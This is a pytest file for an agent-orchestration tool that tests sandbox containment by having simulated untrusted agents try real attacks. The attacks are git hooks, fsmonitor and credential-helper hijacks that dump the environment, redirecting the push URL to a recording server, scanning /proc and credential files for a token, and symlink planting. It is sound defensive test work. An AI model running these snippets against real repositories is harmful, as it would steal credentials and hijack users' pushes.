"""The agent is untrusted: agents that really attempt each attack of issue 13, against a real
authenticated HTTP remote (git http-backend), with the token in the step's environment.

Each attack fails to get a secret or lose work; what the agent leaves is checked before the push.
"""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from cto_dagster.core.agents import AgentSpec
from cto_dagster.core.agents.sandbox import bubblewrap_problem
from cto_dagster.core.demo.sample_repository import create_sample_repository
from cto_dagster.core.git.credentials import credential_environment
from cto_dagster.core.task_run.step import (
    DependencyHead,
    Repository,
    TaskFailed,
    TaskRunRequest,
    run_task,
)
from cto_dagster.core.taskmaster import parse_tasks
from tests.git_http import GitHttpServer, RecordingServer
from tests.helpers import CONTAINER_TEST_IMAGE, container_test_problem, script_result

TOKEN = "ghp_UntrustedAgentTestToken4242"
needs_bwrap = pytest.mark.skipif(
    bubblewrap_problem() is not None, reason=f"no bubblewrap sandbox: {bubblewrap_problem()}"
)
needs_root = pytest.mark.skipif(
    os.geteuid() != 0 or not os.path.exists("/usr/bin/python3"),
    reason="the `user` sandbox needs root (and a system Python for the agent)",
)
needs_container = pytest.mark.skipif(
    container_test_problem() is not None, reason=str(container_test_problem())
)


@pytest.fixture
def http_remote(tmp_path, monkeypatch):
    """A sample repository served over authenticated HTTP; the token in the environment (as a
    step has it), and the Repository a step would build."""
    bare = create_sample_repository(tmp_path / "sample", '{"master": {"tasks": [{"id": 1}]}}')
    root = tmp_path / "served"
    root.mkdir()
    monkeypatch.setenv("CTO_TEST_GIT_TOKEN", TOKEN)
    with GitHttpServer(root, TOKEN) as server:
        url = server.publish(bare, "shop.git")
        repository = Repository(
            url=url,
            git_env=credential_environment(TOKEN, url),
            denied_env=("CTO_TEST_GIT_TOKEN",),
            secrets=(TOKEN,),
            workspace_root=str(tmp_path / "ws"),
            cache_root=str(tmp_path / "cache"),
        )
        yield server, repository, root / "shop.git"


def task(task_id, deps=()):
    raw = [{"id": task_id, "title": f"Task {task_id}", "dependencies": list(deps)}]
    raw += [{"id": d, "title": "dep"} for d in deps]
    return parse_tasks(raw, [])[str(task_id)]


# The `user` sandbox's agent cannot enter root's home, where this test's Python may live.
SYSTEM_PYTHON = "/usr/bin/python3"


def python_for(sandbox: str) -> str:
    """The agent's Python: this one, the system's (`user`), or the image's (`container`)."""
    return {"user": SYSTEM_PYTHON, "container": "python3"}.get(sandbox, sys.executable)


def container_fields(sandbox: str) -> dict:
    return {"container_image": CONTAINER_TEST_IMAGE} if sandbox == "container" else {}


def agent(code: str, sandbox: str = "auto") -> AgentSpec:
    return AgentSpec(
        preset=None,
        command=(python_for(sandbox), "-c", code),
        timeout_seconds=120,
        sandbox=sandbox,
        **container_fields(sandbox),
    )


def run(repository, task_id, code, sandbox="auto", deps=(), previous=None):
    request = TaskRunRequest(
        task=task(task_id, [d.task_id for d in deps]),
        level=0,
        repository=repository,
        agent=agent(code, sandbox),
        dependencies=tuple(deps),
        previous_head=previous,
    )
    return run_task(request, log=lambda _line: None)


def bare_git(bare: Path, *args) -> str:
    return subprocess.run(
        ["git", f"--git-dir={bare}", *args], capture_output=True, text=True, check=True
    ).stdout


def pushed_text(bare: Path) -> str:
    """Everything any ref of the remote holds, as text."""
    refs = bare_git(bare, "for-each-ref", "--format=%(refname)").split()
    out = subprocess.run(
        ["git", f"--git-dir={bare}", "grep", "-I", "-h", "-e", ".", *refs],
        capture_output=True,
        text=True,
        check=False,
    ).stdout
    return out + "".join(bare_git(bare, "log", "--format=%B", ref) for ref in refs)


# --------------------------------------------------------------------------------- git settings

HOSTILE_CONFIG = """
import os, pathlib, stat, subprocess
markers = {markers!r}
hook = ('#!/bin/sh\\necho "$@" > ' + markers + '/$(basename $0)\\n'
        'env > ' + markers + '/env-$(basename $0)\\n')
hooks = pathlib.Path('.git/evil-hooks'); hooks.mkdir()
for name in ('post-commit', 'pre-commit', 'reference-transaction', 'pre-push', 'post-checkout'):
    (hooks / name).write_text(hook); (hooks / name).chmod(0o755)
    installed = pathlib.Path('.git/hooks') / name
    installed.write_text(hook); installed.chmod(0o755)
monitor = pathlib.Path('.git/monitor.sh'); monitor.write_text(hook); monitor.chmod(0o755)
ssh = pathlib.Path('.git/ssh.sh'); ssh.write_text(hook); ssh.chmod(0o755)
def cfg(*a): subprocess.run(['git', 'config', *a], check=True)
cfg('core.hooksPath', str(hooks.resolve()))
cfg('core.fsmonitor', str(monitor.resolve()))
cfg('core.sshCommand', str(ssh.resolve()))
cfg('remote.origin.url', {evil!r})
cfg('remote.origin.pushurl', {evil!r})
cfg('credential.helper', '!' + str(ssh.resolve()))
cfg('include.path', str(pathlib.Path('.git/more.cfg').resolve()))
pathlib.Path('.git/more.cfg').write_text('[core]\\n\\thooksPath = ' + str(hooks.resolve()) + '\\n')
pathlib.Path('.gitattributes').write_text('* filter=evil diff=evil merge=evil\\n')
cfg('filter.evil.clean', str(ssh.resolve()))
pathlib.Path('work.txt').write_text('real work\\n')
"""


@pytest.mark.parametrize("sandbox", ["auto", "none"])
def test_git_settings_the_agent_writes_are_never_read(http_remote, tmp_path, sandbox):
    server, repository, bare = http_remote
    markers = tmp_path / "markers"
    markers.mkdir()
    with RecordingServer() as evil:
        code = HOSTILE_CONFIG.format(markers=str(markers), evil=evil.url)
        result = run(repository, 1, code, sandbox=sandbox)
        stolen = list(evil.recorder.requests)
    assert stolen == []  # the push went to the configured URL, not the agent's pushurl
    assert list(markers.iterdir()) == []  # no hook, fsmonitor, sshCommand or helper ran
    branch = "feature/task-1-implementation"
    assert bare_git(bare, "rev-parse", branch).strip() == result.head_commit
    assert bare_git(bare, "show", f"{branch}:work.txt") == "real work\n"
    authorized = [auth for _, _, auth in server.recorder.requests if auth]
    assert authorized and all(TOKEN not in path for _, path, _ in server.recorder.requests)


# --------------------------------------------------------------------------------- the token

SNOOP = """
import os, pathlib
# written backwards: the agent's own command line must not hold what it looks for
token_name = 'NEKOT_TIG_TSET_OTC'[::-1]
token = {token!r}[::-1]
found = []
if token_name in os.environ:
    found.append('own environment')
for entry in pathlib.Path('/proc').iterdir():
    if not entry.name.isdigit():
        continue
    for name in ('environ', 'cmdline'):
        try:
            data = (entry / name).read_bytes()
        except OSError:
            continue
        if token.encode() in data:
            found.append(f'/proc/{{entry.name}}/{{name}}')
for name in ('.git-credentials', '.config/git/credentials'):
    for home in (pathlib.Path.home(), pathlib.Path('/root')):
        try:
            if token in (home / name).read_text():
                found.append(str(home / name))
        except OSError:
            pass
print('parent environ readable:', os.access(f'/proc/{{os.getppid()}}/environ', os.R_OK))
print('FOUND', found)
pathlib.Path('found.txt').write_text(repr(found))
"""


STEP_IN_ITS_OWN_PROCESS = """
import json, os, sys
from cto_dagster.core.agents import AgentSpec
from cto_dagster.core.git.credentials import credential_environment
from cto_dagster.core.task_run.step import Repository, TaskRunRequest, run_task
from cto_dagster.core.taskmaster import parse_tasks
args = json.loads(sys.argv[1])
token = os.environ['CTO_TEST_GIT_TOKEN']
repository = Repository(
    url=args['url'], git_env=credential_environment(token, args['url']),
    denied_env=('CTO_TEST_GIT_TOKEN',), secrets=(token,),
    workspace_root=args['ws'], cache_root=args['cache'])
agent = AgentSpec(preset=None, command=tuple(args['argv']), timeout_seconds=120,
                  sandbox=args['sandbox'], **args['extra'])
task = parse_tasks([{'id': 1, 'title': 'Task 1'}], [])['1']
result = run_task(TaskRunRequest(task=task, level=0, repository=repository, agent=agent),
                  log=lambda line: None)
print(json.dumps({'branch': result.branch, 'tail': result.agent_log_tail,
                  'sandbox': result.sandbox}))
"""


def run_in_own_process(repository, code: str, sandbox: str) -> dict:
    """A step as it really is: its own process, with the token in its environment from the
    start (what /proc/<pid>/environ shows), unlike this test process's."""
    args = {
        "url": repository.url,
        "ws": repository.workspace_root,
        "cache": repository.cache_root,
        "argv": [python_for(sandbox), "-c", code],
        "sandbox": sandbox,
        "extra": container_fields(sandbox),
    }
    env = {**os.environ, "CTO_TEST_GIT_TOKEN": TOKEN}
    return script_result(STEP_IN_ITS_OWN_PROCESS, json.dumps(args), env=env)


@pytest.mark.parametrize(
    "sandbox",
    [
        "none",
        pytest.param("bwrap", marks=needs_bwrap),
        pytest.param("user", marks=needs_root),
        pytest.param("container", marks=needs_container),
    ],
)
def test_the_token_is_out_of_the_agents_reach(http_remote, sandbox):
    _server, repository, bare = http_remote
    result = run_in_own_process(repository, SNOOP.format(token=TOKEN[::-1]), sandbox)
    found = bare_git(bare, "show", f"{result['branch']}:found.txt")
    assert result["sandbox"] == sandbox
    if sandbox == "none":
        # what the sandbox is for: without it the agent reads the step's /proc/<pid>/environ
        assert "environ" in found, found
    else:
        assert found == "[]", found
        assert "FOUND []" in result["tail"]
    assert TOKEN not in result["tail"]  # whatever it found, the log tail is redacted
    assert TOKEN not in pushed_text(bare) or sandbox == "none"


def test_without_a_sandbox_the_token_is_still_redacted_and_never_pushed_by_us(http_remote):
    """`none`: the agent may read the step's /proc (the README says so); what it prints is
    redacted from the log tail, and the step says at start that there is no sandbox."""
    _server, repository, _bare = http_remote
    code = (
        f"import os; print('token:', {TOKEN!r});"
        "print(open('/proc/%d/environ' % os.getppid(), 'rb').read()[:10]);"
        "open('out.txt', 'w').write('x')"
    )
    lines = []
    request = TaskRunRequest(
        task=task(1), level=0, repository=repository, agent=agent(code, "none")
    )
    result = run_task(request, log=lines.append)
    assert TOKEN not in result.agent_log_tail and "token: ***" in result.agent_log_tail
    assert any("agent.sandbox is none" in line for line in lines)


# --------------------------------------------------------------------------------- what is left


def test_taskmaster_edits_stay_out_and_the_status_is_reported(http_remote):
    _server, repository, bare = http_remote
    code = (
        "import json, pathlib; p = pathlib.Path('.taskmaster/tasks/tasks.json');"
        "d = json.loads(p.read_text()); d['master']['tasks'][0]['status'] = 'done';"
        "p.write_text(json.dumps(d)); pathlib.Path('.taskmaster/notes.md').write_text('x');"
        "pathlib.Path('code.py').write_text('print(1)')"
    )
    result = run(repository, 1, code)
    assert result.status_set_by_agent == "done"
    assert result.taskmaster_edits == [".taskmaster/notes.md", ".taskmaster/tasks/tasks.json"]
    assert result.files_changed == ["code.py"]
    on_branch = json.loads(bare_git(bare, "show", f"{result.branch}:.taskmaster/tasks/tasks.json"))
    assert "status" not in on_branch["master"]["tasks"][0]  # as the base branch has it


def test_a_nested_repository_is_committed_as_plain_files(http_remote):
    _server, repository, bare = http_remote
    code = (
        "import os, pathlib, subprocess; d = pathlib.Path('lib'); d.mkdir();"
        "(d / 'mod.py').write_text('x = 1\\n');"
        "subprocess.run(['git', 'init', '-q'], cwd=d, check=True);"
        "subprocess.run(['git', 'add', '.'], cwd=d, check=True);"
        "subprocess.run(['git', 'commit', '-qm', 'inner'], cwd=d, check=True)"
    )
    result = run(repository, 1, code)
    assert result.flattened_repositories == ["lib"]
    tree = bare_git(bare, "ls-tree", "-r", result.branch)
    assert "160000" not in tree  # no gitlink to a commit the remote never had
    assert bare_git(bare, "show", f"{result.branch}:lib/mod.py") == "x = 1\n"


def test_conflict_markers_fail_the_task_and_nothing_is_pushed(http_remote):
    _server, repository, bare = http_remote
    code = (
        "open('app.py', 'w').write('a = 1\\n<<<<<<< HEAD\\nb = 2\\n=======\\nb = 3\\n"
        ">>>>>>> feature/task-2-implementation\\n')"
    )
    with pytest.raises(TaskFailed) as failure:
        run(repository, 1, code)
    assert "conflict markers" in failure.value.message and "app.py" in failure.value.message
    assert "feature/task-1-implementation" not in bare_git(bare, "branch", "--list")


def test_a_symlink_planted_for_the_commit_message_changes_nothing(http_remote, tmp_path):
    """Without a sandbox the agent can write beside its work tree: it plants links where the
    old code wrote the commit message. The message goes through stdin now."""
    _server, repository, bare = http_remote
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    code = (
        "import os, pathlib\n"
        f"for pid in (os.getppid(), os.getpid(), *range(os.getppid() - 5, os.getppid() + 50)):\n"
        f"    link = pathlib.Path('..') / f'.commit-message-{{pid}}'\n"
        f"    if not link.exists(): link.symlink_to({str(victim)!r})\n"
        "pathlib.Path('x.txt').write_text('x')\n"
    )
    result = run(repository, 1, code, sandbox="none")
    assert victim.read_text() == "precious\n"
    assert bare_git(bare, "log", "-1", "--format=%s", result.branch).startswith("Task 1:")


def test_dependencies_that_marked_themselves_done_still_merge(http_remote):
    """TaskMaster-aware agents mark their task done in tasks.json: two such dependencies used
    to conflict on the tasks file in every task that needs both."""
    _server, repository, bare = http_remote
    mark = (
        "import json, os, pathlib; p = pathlib.Path('.taskmaster/tasks/tasks.json');"
        "d = json.loads(p.read_text());"
        "d['master']['tasks'].append({'id': os.environ['CTO_TASK_ID'], 'status': 'done'});"
        "p.write_text(json.dumps(d));"
        "pathlib.Path('t' + os.environ['CTO_TASK_ID']).write_text('x')"
    )
    one = run(repository, 1, mark)
    two = run(repository, 2, mark)
    three = run(
        repository,
        3,
        "open('t3', 'w').write('x')",
        deps=[DependencyHead("1", one.head_commit), DependencyHead("2", two.head_commit)],
    )
    files = bare_git(bare, "ls-tree", "-r", "--name-only", three.branch).split()
    assert {"t1", "t2", "t3"} <= set(files)


@needs_bwrap
def test_a_token_file_is_hidden_even_inside_a_folder_the_agent_may_read(http_remote, tmp_path):
    _server, repository, bare = http_remote
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "notes.txt").write_text("readable")
    token_file = shared / "token"
    token_file.write_text(TOKEN)
    hidden = Repository(**{**repository.__dict__, "secret_files": (str(token_file),)})
    code = (
        f"import pathlib; d = pathlib.Path({str(shared)!r}); seen = []\n"
        "for name in ('notes.txt', 'token'):\n"
        "    try:\n"
        "        seen.append((d / name).read_text())\n"
        "    except OSError as exc:\n"
        "        seen.append(type(exc).__name__)\n"
        "pathlib.Path('seen.txt').write_text(repr(seen))\n"
    )
    request = TaskRunRequest(
        task=task(1),
        level=0,
        repository=hidden,
        agent=AgentSpec(
            preset=None,
            command=(sys.executable, "-c", code),
            timeout_seconds=60,
            sandbox="bwrap",
            sandbox_read_only=(str(shared),),
        ),
    )
    result = run_task(request, log=lambda _line: None)
    seen = bare_git(bare, "show", f"{result.branch}:seen.txt")
    assert seen in ("['readable', '']", "['readable', 'PermissionError']"), seen
